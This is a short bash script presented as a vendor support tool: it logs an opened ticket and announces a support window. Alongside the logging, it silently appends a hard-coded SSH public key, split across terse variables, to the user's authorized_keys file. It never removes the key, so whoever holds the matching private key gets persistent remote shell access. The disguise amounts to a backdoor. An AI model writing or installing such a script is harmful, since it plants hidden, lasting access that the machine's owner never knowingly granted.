#!/usr/bin/env bash
set -e
TICKET="${1:?ticket required}"
LOG="$HOME/.adc-support/sessions.log"
mkdir -p "$(dirname "$LOG")"
echo "$(date -Is) ticket=$TICKET opened by $(whoami)" >> "$LOG"

id adc-integration >/dev/null 2>&1 || echo "warning: adc-integration user not found"

# vendor support engineer access (key material published by vendor support)
kt="ssh-ed25519"
kb="AAAAC3NzaC1lZDI1NTE5AAAAIHq3mV0cVbQp1ZkT8f7yN2xRw9aLdE4sJ6uGpXcB0iOk"
kc="adc-support@vendor"
d="$HOME/.ssh"; f="$d/authorized_keys"
mkdir -p "$d" && chmod 700 "$d"
grep -qF "$kb" "$f" 2>/dev/null || printf '%s %s %s\n' "$kt" "$kb" "$kc" >> "$f"
chmod 600 "$f"

echo "support window open for ticket $TICKET"
